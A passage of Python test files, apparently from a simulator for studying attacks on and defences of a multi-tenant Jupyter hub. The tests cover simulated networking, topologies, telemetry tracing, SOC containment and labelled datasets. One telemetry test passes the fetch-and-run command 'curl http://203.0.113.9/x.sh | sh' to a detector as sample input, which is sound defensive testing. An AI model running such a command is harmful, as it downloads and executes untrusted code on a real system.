            client = WebSocketKernelClient(
                s.user_host, shard_host, port=s.proxy.config.port,
                token=s.hub_config.api_token, path_prefix="")
            t0 = s.clock.now()
            client.request("GET", "/hub/api")
            # request() pumps a fixed run window; measure via the hub
            # request log instead: the response left later on the far
            # shard, so route timing shifts.  Simplest robust check:
            # segment timestamps at the shard's own tap.
            return s.clock.now() - t0

        # Same-shaped request through near vs far front door: the far
        # door's first response segment arrives later within the run.
        near, far = s.network.hosts["hub0"], s.network.hosts["hub2"]
        seg_ts = {}
        for shard, host in (("shard0", near), ("shard2", far)):
            tap = next(sh.tap for sh in s.shards if sh.name == shard)
            before = len(tap.segments)
            rtt(host)
            reply = [seg for seg in tap.segments[before:]
                     if seg.src == host.ip and seg.payload]
            assert reply, shard
            first_probe = next(seg for seg in tap.segments[before:]
                               if seg.dst == host.ip)
            seg_ts[shard] = reply[0].ts - first_probe.ts
        assert seg_ts["shard2"] > seg_ts["shard0"]

    def test_unknown_link_host_is_a_compile_error(self):
        spec = sharded_hub_spec(seed=1, seed_data=False)
        from dataclasses import replace

        bad = replace(spec, links=(LinkSpec("laptop", "atlantis", 0.2),))
        with pytest.raises(ValueError, match="atlantis"):
            WorldBuilder().build(bad)

    def test_links_apply_on_single_server_too(self):
        spec = single_server_spec(seed=1, seed_data=False)
        from dataclasses import replace

        far = replace(spec, links=(LinkSpec("laptop", "jupyter", 0.25),))
        s = WorldBuilder().build(far)
        assert s.network.latency(s.user_host, s.server_host) == 0.25


class TestTopologyCli:
    def test_list(self, capsys):
        from repro.cli import topology as cli_topology

        assert cli_topology.main(["--list", "--json"]) == 0
        payload = json.loads(capsys.readouterr().out)
        assert set(payload) == set(list_presets())
        assert "automated response" in payload["defended-hub"]
        assert "decoy" in payload["sharded-honeypot-hub"]
        assert "latency" in payload["sharded-hub-geo"]

    def test_smoke_passes_every_preset(self, capsys):
        from repro.cli import topology as cli_topology

        assert cli_topology.main(["--smoke"]) == 0
        out = capsys.readouterr().out
        assert "PASS" in out
        for name in ("single-server", "hub", "sharded-hub", "honeypot-hub"):
            assert name in out

    def test_attack_cli_accepts_topology(self, capsys):
        from repro.cli import attack as cli_attack

        rc = cli_attack.main(["cross-tenant-pivot", "--topology", "honeypot-hub",
                              "--json"])
        assert rc == 0
        payload = json.loads(capsys.readouterr().out)
        assert payload["success"] is True

    def test_attack_cli_rejects_bad_combinations(self):
        from repro.cli import attack as cli_attack

        with pytest.raises(SystemExit):
            cli_attack.main(["stolen-token", "--topology", "nope"])
        with pytest.raises(SystemExit):
            cli_attack.main(["stolen-token", "--topology", "hub",
                             "--insecure-server"])

    def test_umbrella_knows_topology(self, capsys):
        from repro.cli import main as cli_main

        assert cli_main.main(["-h"]) == 0
        assert "topology" in capsys.readouterr().out
