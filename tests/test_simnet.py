"""Tests for the discrete-event network simulator."""

import pytest

from repro.simnet import EventLoop, Network, NetworkTap
from repro.util.errors import ReproError


class TestEventLoop:
    def test_events_run_in_time_order(self):
        loop = EventLoop()
        order = []
        loop.call_at(2.0, lambda: order.append("b"))
        loop.call_at(1.0, lambda: order.append("a"))
        loop.call_at(3.0, lambda: order.append("c"))
        loop.run_all()
        assert order == ["a", "b", "c"]

    def test_simultaneous_events_fifo(self):
        loop = EventLoop()
        order = []
        for i in range(5):
            loop.call_at(1.0, lambda i=i: order.append(i))
        loop.run_all()
        assert order == [0, 1, 2, 3, 4]

    def test_clock_advances_to_event_time(self):
        loop = EventLoop()
        loop.call_at(5.0, lambda: None)
        loop.run_all()
        assert loop.clock.now() == 5.0

    def test_run_until_stops_at_horizon(self):
        loop = EventLoop()
        fired = []
        loop.call_at(1.0, lambda: fired.append(1))
        loop.call_at(10.0, lambda: fired.append(10))
        n = loop.run_until(5.0)
        assert n == 1 and fired == [1]
        assert loop.clock.now() == 5.0
        assert loop.pending() == 1

    def test_cannot_schedule_in_past(self):
        loop = EventLoop()
        loop.call_at(2.0, lambda: None)
        loop.run_all()
        with pytest.raises(ValueError):
            loop.call_at(1.0, lambda: None)

    def test_negative_delay_rejected(self):
        with pytest.raises(ValueError):
            EventLoop().call_later(-1, lambda: None)

    def test_events_can_schedule_events(self):
        loop = EventLoop()
        seen = []

        def chain(n):
            seen.append(n)
            if n < 3:
                loop.call_later(1.0, lambda: chain(n + 1))

        loop.call_at(0.0, lambda: chain(0))
        loop.run_all()
        assert seen == [0, 1, 2, 3]
        assert loop.clock.now() == 3.0

    def test_event_storm_guard(self):
        loop = EventLoop()

        def rescheduler():
            loop.call_later(0.0, rescheduler)

        loop.call_at(0.0, rescheduler)
        with pytest.raises(RuntimeError, match="storm"):
            loop.run_until(1.0, max_events=100)


def make_pair():
    net = Network(default_latency=0.01)
    server = net.add_host("jupyter", "10.0.0.1")
    client = net.add_host("laptop", "10.0.0.2")
    return net, server, client


class TestNetwork:
    def test_duplicate_host_rejected(self):
        net, _, _ = make_pair()
        with pytest.raises(ReproError):
            net.add_host("jupyter", "10.0.0.9")
        with pytest.raises(ReproError):
            net.add_host("other", "10.0.0.1")

    def test_connect_refused_when_not_listening(self):
        _, server, client = make_pair()
        with pytest.raises(ReproError, match="refused"):
            client.connect(server, 8888)

    def test_data_delivery_and_latency(self):
        net, server, client = make_pair()
        received = []
        server.listen(8888, lambda conn: setattr(conn, "on_data_server", received.append))
        conn = client.connect(server, 8888)
        conn.send_to_server(b"hello")
        assert received == []  # not yet delivered
        net.run(0.02)
        assert received == [b"hello"]
        assert net.loop.clock.now() == pytest.approx(0.02)

    def test_bidirectional(self):
        net, server, client = make_pair()
        got_client = []

        def on_connect(conn):
            conn.on_data_server = lambda d: conn.send_to_client(b"pong:" + d)

        server.listen(9999, on_connect)
        conn = client.connect(server, 9999)
        conn.on_data_client = got_client.append
        conn.send_to_server(b"ping")
        net.run(0.1)
        assert got_client == [b"pong:ping"]

    def test_mss_chunking(self):
        net = Network(default_latency=0.001, mss=100)
        server = net.add_host("s", "10.0.0.1")
        client = net.add_host("c", "10.0.0.2")
        tap = net.add_tap()
        chunks = []
        server.listen(1, lambda conn: setattr(conn, "on_data_server", chunks.append))
        conn = client.connect(server, 1)
        conn.send_to_server(b"x" * 250)
        net.run(1.0)
        assert [len(c) for c in chunks] == [100, 100, 50]
        data_segs = [s for s in tap.segments if s.flags == ""]
        assert [s.size for s in data_segs] == [100, 100, 50]

    def test_in_order_delivery_across_sends(self):
        net, server, client = make_pair()
        got = []
        server.listen(1, lambda conn: setattr(conn, "on_data_server", got.append))
        conn = client.connect(server, 1)
        for i in range(10):
            conn.send_to_server(f"m{i}".encode())
        net.run(1.0)
        assert b"".join(got) == b"".join(f"m{i}".encode() for i in range(10))

    def test_bandwidth_pacing_orders_arrivals(self):
        # 1000 bytes at 8000 bps = 1 second serialization per 1000B chunk.
        net = Network(default_latency=0.0, bandwidth_bps=8000, mss=1000)
        server = net.add_host("s", "10.0.0.1")
        client = net.add_host("c", "10.0.0.2")
        arrivals = []
        server.listen(1, lambda conn: setattr(
            conn, "on_data_server", lambda d: arrivals.append(net.loop.clock.now())))
        conn = client.connect(server, 1)
        conn.send_to_server(b"a" * 2000)  # two chunks -> 1s, 2s
        net.run(5.0)
        assert arrivals == [pytest.approx(1.0), pytest.approx(2.0)]

    def test_send_on_closed_raises(self):
        net, server, client = make_pair()
        server.listen(1, lambda conn: None)
        conn = client.connect(server, 1)
        conn.close()
        with pytest.raises(ReproError, match="closed"):
            conn.send_to_server(b"late")

    def test_close_notifies_peer(self):
        net, server, client = make_pair()
        closed = []
        server.listen(1, lambda conn: setattr(conn, "on_close_server", lambda: closed.append(True)))
        conn = client.connect(server, 1)
        conn.close(by_client=True)
        net.run(1.0)
        assert closed == [True]

    def test_loopback_bind_excludes_remote(self):
        net, server, client = make_pair()
        server.listen(8888, lambda conn: None, bind_ip="127.0.0.1")
        with pytest.raises(ReproError, match="refused"):
            client.connect(server, 8888)
        # Same-host connections succeed.
        conn = server.connect(server, 8888)
        assert conn.open

    def test_latency_override(self):
        net, server, client = make_pair()
        net.set_latency(server, client, 0.5)
        times = []
        server.listen(1, lambda conn: setattr(
            conn, "on_data_server", lambda d: times.append(net.loop.clock.now())))
        conn = client.connect(server, 1)
        conn.send_to_server(b"x")
        net.run(1.0)
        assert times == [pytest.approx(0.5)]


class TestTap:
    def test_tap_sees_syn_data_fin(self):
        net, server, client = make_pair()
        tap = net.add_tap()
        server.listen(1, lambda conn: None)
        conn = client.connect(server, 1)
        conn.send_to_server(b"payload")
        net.run(0.1)
        conn.close()
        flags = [s.flags for s in tap.segments]
        assert flags == ["S", "", "F"]
        assert tap.total_bytes() == len(b"payload")

    def test_tap_subscription(self):
        net, server, client = make_pair()
        tap = net.add_tap()
        seen = []
        tap.subscribe(lambda seg: seen.append(seg.size))
        server.listen(1, lambda conn: None)
        client.connect(server, 1).send_to_server(b"abc")
        net.run(0.1)
        assert 3 in seen

    def test_disabled_tap_records_nothing(self):
        net, server, client = make_pair()
        tap = net.add_tap()
        tap.enabled = False
        server.listen(1, lambda conn: None)
        client.connect(server, 1).send_to_server(b"abc")
        net.run(0.1)
        assert tap.segments == []

    def test_determinism(self):
        def run_once():
            net, server, client = make_pair()
            tap = net.add_tap()
            server.listen(1, lambda conn: setattr(
                conn, "on_data_server", lambda d: conn.send_to_client(d * 2)))
            conn = client.connect(server, 1)
            conn.on_data_client = lambda d: None
            conn.send_to_server(b"abc")
            net.run(1.0)
            return [(s.ts, s.src, s.dst, s.payload) for s in tap.segments]

        assert run_once() == run_once()
