"""Tests for the unified telemetry subsystem: metrics registry, causal
trace spans, the bounded event timeline, exporters, the proxy's
denied-counter split, and end-to-end trace propagation — including
across a severed WS relay and through a quarantine → auto-release →
re-containment cycle."""

import pytest

from repro.monitor.logs import Notice
from repro.soc import ResponsePolicy
from repro.taxonomy.oscrp import Avenue
from repro.telemetry import (
    NULL_INSTRUMENT,
    NULL_SPAN,
    EventTimeline,
    MetricsRegistry,
    Telemetry,
    TraceContext,
    Tracer,
    merge_timelines,
)
from repro.telemetry.exporters import (
    TIMELINE_REQUIRED_KEYS,
    render_metrics_jsonl,
    render_prometheus,
    render_timeline_jsonl,
    validate_jsonl,
    validate_prometheus,
)
from repro.telemetry.forensics import (
    STAGE_NAMES,
    chain_stages,
    describe_chain,
    find_incident_span,
    incident_chain,
)
from repro.topology import WorldBuilder, defend, resolve_spec, spec_preset
from repro.util.ids import IdSequence


# -- registry -----------------------------------------------------------------

class TestMetricsRegistry:
    def test_counter_inc_and_labels(self):
        reg = MetricsRegistry()
        fam = reg.counter("requests_total", "requests", labels=("proxy",))
        fam.labels(proxy="hub0").inc()
        fam.labels(proxy="hub0").inc(2)
        fam.labels(proxy="hub1").inc()
        samples = {s.labels: s.value for s in fam.samples()}
        assert samples[(("proxy", "hub0"),)] == 3
        assert samples[(("proxy", "hub1"),)] == 1

    def test_counter_set_never_goes_backwards(self):
        reg = MetricsRegistry()
        c = reg.counter("total")
        c.set(10)
        c.set(7)
        assert c.samples()[0].value == 10

    def test_gauge_moves_both_ways(self):
        g = MetricsRegistry().gauge("active")
        g.set(5)
        g.dec(2)
        g.inc()
        assert g.samples()[0].value == 4

    def test_histogram_buckets_cumulative(self):
        reg = MetricsRegistry()
        h = reg.histogram("latency", buckets=(0.1, 1.0, 10.0))
        for v in (0.05, 0.5, 0.5, 5.0, 50.0):
            h.observe(v)
        by_name = {}
        for s in h.samples():
            by_name.setdefault(s.name, []).append(s)
        buckets = {dict(s.labels)["le"]: s.value
                   for s in by_name["latency_bucket"]}
        assert buckets == {"0.1": 1, "1": 3, "10": 4, "+Inf": 5}
        assert by_name["latency_count"][0].value == 5
        assert by_name["latency_sum"][0].value == pytest.approx(56.05)

    def test_reregistration_is_get_or_create(self):
        reg = MetricsRegistry()
        a = reg.counter("shared_total", labels=("shard",))
        b = reg.counter("shared_total", labels=("shard",))
        assert a is b

    def test_schema_drift_raises(self):
        reg = MetricsRegistry()
        reg.counter("x_total")
        with pytest.raises(ValueError):
            reg.gauge("x_total")
        with pytest.raises(ValueError):
            reg.counter("x_total", labels=("new",))

    def test_collectors_run_at_scrape_time(self):
        reg = MetricsRegistry()
        live = {"n": 0}
        c = reg.counter("live_total")
        reg.register_collector(lambda: c.set(live["n"]))
        live["n"] = 42
        samples = reg.collect()
        assert [s.value for s in samples if s.name == "live_total"] == [42]

    def test_disabled_registry_is_null(self):
        reg = MetricsRegistry(enabled=False)
        assert reg.counter("a") is NULL_INSTRUMENT
        assert reg.counter("a").labels(x="y") is NULL_INSTRUMENT
        reg.register_collector(lambda: 1 / 0)  # never runs
        assert reg.collect() == []
        assert reg.families() == []


# -- tracer -------------------------------------------------------------------

class TestTracer:
    def test_parenting_joins_the_trace(self):
        t = Tracer()
        root = t.start_span("proxy.request", ts=1.0)
        child = t.start_span("detector.hit", parent=root.ctx, ts=2.0)
        assert child.trace_id == root.trace_id
        assert child.parent_id == root.span_id
        lone = t.start_span("incident", ts=3.0)
        assert lone.trace_id != root.trace_id and lone.parent_id == ""

    def test_chain_walks_root_first(self):
        t = Tracer()
        a = t.start_span("proxy.request", ts=1.0)
        b = t.start_span("detector.hit", parent=a.ctx, ts=2.0)
        c = t.start_span("incident", parent=b.ctx, ts=3.0)
        assert [s.span_id for s in t.chain(c.span_id)] == \
            [a.span_id, b.span_id, c.span_id]
        assert [s.span_id for s in t.children(c.span_id)] == []

    def test_bind_resolve_roundtrip(self):
        t = Tracer()
        span = t.start_span("proxy.request", ts=0.0)
        t.bind("R0001", span.ctx)
        assert t.resolve("R0001") == span.ctx
        assert t.resolve("R9999") is None

    def test_span_store_is_bounded(self):
        t = Tracer(capacity=4)
        spans = [t.start_span(f"s{i}", ts=float(i)) for i in range(7)]
        assert t.dropped == 3
        assert t.get(spans[0].span_id) is None
        assert t.get(spans[-1].span_id) is not None
        # Chain stops cleanly at an evicted ancestor.
        child = t.start_span("leaf", parent=spans[-1].ctx, ts=9.0)
        assert [s.name for s in t.chain(child.span_id)][-1] == "leaf"

    def test_disabled_tracer_returns_null_span(self):
        t = Tracer(enabled=False)
        span = t.start_span("anything", ts=1.0)
        assert span is NULL_SPAN
        assert not span.ctx
        t.bind("R1", TraceContext("T1", "S1"))
        assert t.resolve("R1") is None
        assert t.spans() == []

    def test_ids_are_private_streams(self):
        """Tracer ids never draw from the global new_id stream."""
        seq = IdSequence("S")
        assert [seq.next(), seq.next()] == ["S00000001", "S00000002"]
        t1, t2 = Tracer(), Tracer()
        a = t1.start_span("x", ts=0.0)
        b = t2.start_span("x", ts=0.0)
        assert a.span_id == b.span_id  # same private stream position


# -- timeline -----------------------------------------------------------------

class TestEventTimeline:
    def test_record_and_filter(self):
        tl = EventTimeline()
        ctx = TraceContext("T1", "S1")
        tl.record(1.0, "proxy.routed", source="1.2.3.4", ctx=ctx, tenant="a")
        tl.record(2.0, "proxy.blocked", source="5.6.7.8")
        tl.record(3.0, "soc.action", source="5.6.7.8")
        assert len(tl) == 3
        assert [e.kind for e in tl.events(("proxy.",))] == \
            ["proxy.routed", "proxy.blocked"]
        assert [e.ts for e in tl.events(source="5.6.7.8")] == [2.0, 3.0]
        assert [e.kind for e in tl.events(trace_id="T1")] == ["proxy.routed"]
        assert tl.events(("proxy.",))[0].detail["tenant"] == "a"

    def test_ring_bound_and_dropped(self):
        tl = EventTimeline(capacity=3)
        for i in range(10):
            tl.record(float(i), "tick")
        assert len(tl) == 3
        assert tl.dropped == 7
        assert [e.ts for e in tl.events()] == [7.0, 8.0, 9.0]

    def test_disabled_records_nothing(self):
        tl = EventTimeline(enabled=False)
        tl.record(1.0, "tick")
        assert len(tl) == 0 and tl.total_recorded == 0

    def test_merge_is_time_ordered_and_stable(self):
        a, b = EventTimeline(), EventTimeline()
        a.record(1.0, "a1")
        a.record(3.0, "a2")
        b.record(2.0, "b1")
        b.record(3.0, "b2")
        merged = merge_timelines(a, b)
        assert [e.kind for e in merged] == ["a1", "b1", "a2", "b2"]


# -- exporters ----------------------------------------------------------------

class TestExporters:
    def _loaded_telemetry(self):
        tele = Telemetry(enabled=True)
        fam = tele.registry.counter("demo_total", "demo", labels=("who",))
        fam.labels(who='we"ird\nname').inc(2)
        tele.registry.histogram("lat", "latency").observe(0.02)
        span = tele.tracer.start_span("proxy.request", ts=1.0)
        tele.timeline.record(1.0, "proxy.routed", source="1.2.3.4",
                             ctx=span.ctx)
        return tele

    def test_prometheus_roundtrip_validates(self):
        tele = self._loaded_telemetry()
        text = render_prometheus(tele.registry)
        assert validate_prometheus(text) == []
        assert "# TYPE demo_total counter" in text
        assert "lat_bucket" in text and 'le="+Inf"' in text

    def test_metrics_jsonl_validates(self):
        tele = self._loaded_telemetry()
        text = render_metrics_jsonl(tele.registry)
        assert validate_jsonl(text, required_keys=("name", "labels", "value")) == []

    def test_timeline_jsonl_validates(self):
        tele = self._loaded_telemetry()
        text = render_timeline_jsonl(tele.timeline)
        assert validate_jsonl(text, required_keys=TIMELINE_REQUIRED_KEYS) == []

    def test_validators_catch_corruption(self):
        assert validate_prometheus("orphan_metric 1")  # no TYPE decl
        assert validate_prometheus("# TYPE x wat\n")
        assert validate_jsonl("not json")
        assert validate_jsonl('{"a": 1}', required_keys=("b",))


# -- proxy counter split (the drift fix) --------------------------------------

class TestProxyDeniedSplit:
    def _scenario(self):
        from repro.hub import build_hub_scenario
        return build_hub_scenario(n_tenants=2, seed_data=False)

    def test_auth_denied_and_blocked_are_distinct(self):
        s = self._scenario()
        client = s.user_client(username="user00")
        client.path_prefix = "/user/user01"  # wrong tenant's token
        assert client.request("GET", "/api/contents/").status == 403
        assert s.proxy.stats.auth_denied_total == 1
        assert s.proxy.stats.blocked_total == 0
        s.proxy.block_source(s.attacker_host.ip)
        assert s.attacker_client(token=s.token).request(
            "GET", "/api/status").status == 403
        assert s.proxy.stats.blocked_total == 1
        assert s.proxy.stats.auth_denied_total == 1
        # The legacy aggregate is now derived, so it can never drift.
        assert s.proxy.stats.denied_total == 2

    def test_registry_reports_reason_labels(self):
        s = self._scenario()
        client = s.user_client(username="user00")
        client.path_prefix = "/user/user01"
        client.request("GET", "/api/contents/")
        s.proxy.block_source(s.attacker_host.ip)
        s.attacker_client(token=s.token).request("GET", "/api/status")
        s.telemetry.registry.collect()
        fam = s.telemetry.registry.get("proxy_denied_total")
        assert fam is not None
        by_reason = {dict(smp.labels)["reason"]: smp.value
                     for smp in fam.samples()}
        assert by_reason["auth"] == 1
        assert by_reason["blocked"] == 1


# -- end-to-end causal chain --------------------------------------------------

def _run_pivot(topology="defended-sharded-hub", n_tenants=6, seed=4242):
    from repro.attacks.campaign import run_campaign
    from repro.hub.users import insecure_hub_config
    from repro.soc.replay import CANNED

    spec = resolve_spec(topology, n_tenants=n_tenants,
                        hub_config=insecure_hub_config())
    scenario = WorldBuilder().build(spec, seed=seed)
    run_campaign(scenario, CANNED["pivot"]())
    return scenario


class TestCausalChain:
    def test_defended_sharded_hub_chain_is_complete(self):
        s = _run_pivot()
        tele = s.telemetry
        contained = [i for i in s.soc.correlator.by_severity()
                     if i.external and i.contained]
        assert contained, "the pivot campaign must produce a contained incident"
        incident = contained[0]
        spans = incident_chain(tele.tracer, incident.span_id)
        assert chain_stages(spans) == [label for _, label in STAGE_NAMES]
        # The root really is the front-door request that carried the sweep.
        root = spans[0]
        assert root.name == "proxy.request"
        assert root.attrs["source"] == incident.source
        assert root.attrs["request_id"].startswith("R")
        # Every action span parents to the incident span.
        actions = [sp for sp in spans if sp.name == "soc.action"]
        assert actions and all(sp.parent_id == incident.span_id
                               for sp in actions)
        # find_incident_span agrees with the correlator's stamp.
        assert find_incident_span(tele.tracer,
                                  incident.incident_id).span_id == \
            incident.span_id
        # The rendering mentions every causal stage.
        text = "\n".join(describe_chain(spans))
        for _, label in STAGE_NAMES:
            assert label in text

    def test_timeline_tells_both_sides(self):
        s = _run_pivot()
        kinds = {e.kind for e in s.telemetry.timeline.events()}
        assert {"proxy.routed", "detector.notice", "incident.opened",
                "soc.action", "proxy.block_source"} <= kinds

    def test_telemetry_does_not_perturb_the_world(self):
        """Same seed, telemetry on vs off: identical traffic and verdicts."""
        from dataclasses import replace

        from repro.attacks.campaign import run_campaign
        from repro.hub.users import insecure_hub_config
        from repro.soc.replay import CANNED
        from repro.topology import TelemetrySpec

        spec = resolve_spec("defended-sharded-hub", n_tenants=6,
                            hub_config=insecure_hub_config())
        spec_off = replace(spec, telemetry=TelemetrySpec(enabled=False))
        s_on = WorldBuilder().build(spec, seed=77)
        s_off = WorldBuilder().build(spec_off, seed=77)
        assert not s_off.telemetry.enabled
        o_on = run_campaign(s_on, CANNED["pivot"]())
        o_off = run_campaign(s_off, CANNED["pivot"]())
        assert [n.name for n in s_on.monitor.logs.notices] == \
            [n.name for n in s_off.monitor.logs.notices]
        assert o_on.detected == o_off.detected
        assert o_on.contained == o_off.contained
        assert s_on.soc.summary()["actions"] == s_off.soc.summary()["actions"]


# -- trace propagation across a severed WS relay ------------------------------

class TestSeveredRelayPropagation:
    def test_context_survives_the_sever(self):
        from repro.hub import build_hub_scenario

        s = build_hub_scenario(n_tenants=2, seed_data=False)
        tele = s.telemetry
        client = s.user_client(username="user00")
        client.start_kernel()
        client.connect_channels()
        client_ip = client.client_host.ip
        # The monitor learned this client's request context from the
        # X-Request-Id the proxy stamped on the backend leg.
        assert client_ip in s.monitor._src_ctx
        ctx_before = s.monitor._src_ctx[client_ip]
        # Containment severs the live WS relay.
        assert s.proxy.block_source(client_ip) is True
        assert tele.timeline.events(("proxy.block_source",))
        # A detector hit attributed to that source after the sever still
        # parents to the pre-sever front-door request.
        s.monitor.observe_terminal(s.clock.now(), client_ip,
                                   "curl http://203.0.113.9/x.sh | sh")
        notice = s.monitor.logs.notices[-1]
        assert notice.name == "SIG-PIPE-SH" and notice.span_id
        hit = tele.tracer.get(notice.span_id)
        assert hit.parent_id == ctx_before.span_id
        chain = tele.tracer.chain(notice.span_id)
        assert [sp.name for sp in chain] == ["proxy.request", "detector.hit"]
        assert chain[0].status == "routed"


# -- quarantine -> auto-release -> re-containment -----------------------------

def _notice(ts, src="203.0.113.66", name="CROSS_TENANT_SWEEP",
            avenue=Avenue.ACCOUNT_TAKEOVER):
    return Notice(ts=ts, detector="tenant-sweep", name=name, severity="high",
                  src=src, avenue=avenue, detail={})


class TestUncontainmentSpans:
    def _build(self, policy):
        from repro.hub.users import insecure_hub_config

        spec = defend(spec_preset("hub", n_tenants=2, seed_data=False,
                                  hub_config=insecure_hub_config()), policy)
        return WorldBuilder().build(spec, seed=99)

    def test_release_and_recontainment_share_the_incident_trace(self):
        s = self._build(ResponsePolicy(block_ttl=30.0))
        soc, tele, ip = s.soc, s.telemetry, "203.0.113.66"
        s.monitor.logs.notices.append(_notice(s.clock.now(), src=ip))
        soc.poll()
        incident = soc.correlator.by_severity()[0]
        assert ip in s.proxy.blocked_sources
        # Quiet period: TTL expiry releases the block (and its span has
        # no incident parent — releases are policy-driven, not
        # incident-driven).
        s.run(70.0)
        assert ip not in s.proxy.blocked_sources
        assert soc.released_total == 1
        release_spans = [sp for sp in tele.tracer.spans()
                         if sp.name == "soc.action"
                         and sp.attrs.get("rule") == "block-ttl-expiry"]
        assert release_spans and release_spans[0].parent_id == ""
        # Re-offense: the re-containment action parents to the SAME
        # incident span the first containment did.
        s.monitor.logs.notices.append(_notice(s.clock.now(), src=ip))
        soc.poll()
        assert soc.re_contained_total == 1
        blocks = [sp for sp in tele.tracer.children(incident.span_id)
                  if sp.attrs.get("action") == "block_source"
                  and sp.attrs.get("ok")]
        assert len(blocks) == 2, "containment + re-containment"
        assert {sp.parent_id for sp in blocks} == {incident.span_id}
        # The full chain still walks after the whole cycle.
        assert chain_stages(incident_chain(tele.tracer, incident.span_id)) \
            == ["incident", "action"]

    def test_quarantine_cycle_timeline(self):
        s = self._build(ResponsePolicy(quarantine_release_after=25.0))
        node_ip = s.spawner.active["user00"].host.ip
        s.monitor.logs.notices.append(_notice(
            s.clock.now(), src=node_ip, name="EXFIL_VOLUME",
            avenue=Avenue.DATA_EXFILTRATION))
        soc = s.soc
        soc.poll()
        assert s.spawner.quarantined
        s.run(35.0)
        assert not s.spawner.quarantined
        kinds = [e.kind for e in s.telemetry.timeline.events(
            ("spawner.quarantine", "spawner.release"))]
        assert kinds.count("spawner.quarantine") >= 1
        assert kinds.count("spawner.release") >= 1
        release_actions = s.telemetry.timeline.events(("soc.action",))
        assert any(e.detail.get("rule") == "quarantine-auto-release"
                   for e in release_actions)


# -- world-level summary ------------------------------------------------------

class TestWorldWiring:
    def test_single_server_world_is_instrumented(self):
        spec = resolve_spec("single-server")
        s = WorldBuilder().build(spec, seed=3)
        assert s.telemetry.enabled
        s.telemetry.registry.collect()
        names = {f.name for f in s.telemetry.registry.families()}
        assert "monitor_segments_total" in names

    def test_disabled_world_pays_nothing(self):
        from dataclasses import replace

        from repro.topology import TelemetrySpec

        spec = replace(resolve_spec("single-server"),
                       telemetry=TelemetrySpec(enabled=False))
        s = WorldBuilder().build(spec, seed=3)
        assert s.telemetry is Telemetry.disabled()
        assert s.monitor._ws_counters is None
        assert not s.monitor._tele_on
        assert s.telemetry.summary()["metric_families"] == 0
