"""Tests for workloads, dataset building, anonymization, and metrics."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.attacks import ExfiltrationAttack, TokenBruteforceAttack
from repro.attacks.scenario import build_scenario
from repro.dataset import (
    AnonymizationPolicy,
    Anonymizer,
    DatasetBuilder,
    LabeledRecord,
    k_anonymity,
)
from repro.dataset.anonymize import reidentification_risk
from repro.eval import ConfusionMatrix, DetectionEvaluator, roc_sweep
from repro.workload import ScientistWorkload


class TestWorkload:
    def test_session_runs_clean(self):
        sc = build_scenario(seed=100)
        report = ScientistWorkload(sc, username="alice").run_session(cells=5)
        assert report.cells_executed == 5
        assert report.errors == 0
        assert report.duration > 0

    def test_benign_workload_triggers_no_high_notices(self):
        sc = build_scenario(seed=101)
        ScientistWorkload(sc).run_session(cells=8)
        high = [n for n in sc.monitor.logs.notices if n.severity in ("high", "critical")]
        assert high == []

    def test_deterministic_given_seed(self):
        def run():
            sc = build_scenario(seed=102)
            ScientistWorkload(sc, username="bob").run_session(cells=4)
            return [j.code for j in sc.monitor.logs.jupyter if j.msg_type == "execute_request"]

        assert run() == run()

    def test_different_users_different_cells(self):
        sc = build_scenario(seed=103)
        w1 = ScientistWorkload(sc, username="u1")
        w2 = ScientistWorkload(sc, username="u2")
        c1 = [w1.rng.choice(range(1000)) for _ in range(5)]
        c2 = [w2.rng.choice(range(1000)) for _ in range(5)]
        assert c1 != c2


class TestDatasetBuilder:
    def test_mixed_corpus_has_both_labels(self):
        builder = DatasetBuilder(seed=200, benign_sessions=2, benign_cells_per_session=3)
        records = builder.build([TokenBruteforceAttack(delay=0.2)])
        summary = DatasetBuilder.summary(records)
        assert summary["malicious"] > 0
        assert summary["benign"] > summary["malicious"]
        assert summary["families"]["http"] > 0

    def test_ground_truth_not_derived_from_detection(self):
        builder = DatasetBuilder(seed=201, benign_sessions=1, benign_cells_per_session=2)
        records = builder.build([ExfiltrationAttack()])
        # Jupyter records from the stolen session are labeled malicious even
        # though they traverse the benign user's host.
        stolen = [r for r in records if r.family == "jupyter"
                  and r.fields.get("username") == "attacker-via-stolen-session"]
        assert stolen and all(r.label_malicious for r in stolen)

    def test_jsonl_export_parses(self):
        builder = DatasetBuilder(seed=202, benign_sessions=1, benign_cells_per_session=2)
        records = builder.build()
        text = DatasetBuilder.export_jsonl(records)
        parsed = [json.loads(line) for line in text.splitlines()]
        assert len(parsed) == len(records)
        assert all("label_malicious" in p for p in parsed)

    def test_records_time_ordered(self):
        builder = DatasetBuilder(seed=203, benign_sessions=1, benign_cells_per_session=2)
        records = builder.build()
        times = [r.ts for r in records]
        assert times == sorted(times)


def sample_records():
    return [
        LabeledRecord(ts=12.3, family="jupyter", src="10.0.0.42", dst="10.0.0.10",
                      fields={"username": "alice", "session": "s1", "code": "import os",
                              "code_size": 9},
                      label_malicious=False),
        LabeledRecord(ts=83.9, family="http", src="203.0.113.66", dst="10.0.0.10",
                      fields={"method": "GET", "path": "/api/status", "status": 403},
                      label_malicious=True, label_attack="token-bruteforce"),
        LabeledRecord(ts=90.1, family="http", src="203.0.113.66", dst="10.0.0.10",
                      fields={"method": "GET", "path": "/api/status", "status": 403},
                      label_malicious=True, label_attack="token-bruteforce"),
    ]


class TestAnonymizer:
    def test_ips_pseudonymized_deterministically(self):
        anon = Anonymizer(AnonymizationPolicy())
        a1 = anon.pseudonymize_ip("10.0.0.42")
        a2 = anon.pseudonymize_ip("10.0.0.42")
        assert a1 == a2
        assert a1 != "10.0.0.42"

    def test_prefix_preservation(self):
        anon = Anonymizer(AnonymizationPolicy())
        a = anon.pseudonymize_ip("10.0.0.42").split(".")
        b = anon.pseudonymize_ip("10.0.0.99").split(".")
        c = anon.pseudonymize_ip("10.0.7.42").split(".")
        d = anon.pseudonymize_ip("192.168.0.42").split(".")
        assert a[:3] == b[:3]          # same /24 stays together
        assert a[:2] == c[:2]          # same /16 stays together
        assert a[0] != d[0] or a[1] != d[1]  # different nets diverge

    def test_different_keys_different_pseudonyms(self):
        a = Anonymizer(AnonymizationPolicy(key=b"k1")).pseudonymize_ip("10.0.0.42")
        b = Anonymizer(AnonymizationPolicy(key=b"k2")).pseudonymize_ip("10.0.0.42")
        assert a != b

    def test_non_ip_sources_hashed(self):
        anon = Anonymizer(AnonymizationPolicy())
        # Principal names use the identity PRF so they stay joinable with
        # hashed username fields across record families.
        assert anon.pseudonymize_ip("kernel").startswith("u-")
        assert anon.pseudonymize_ip("alice") == anon.hash_identity("alice")

    def test_identity_hashing(self):
        anon = Anonymizer(AnonymizationPolicy())
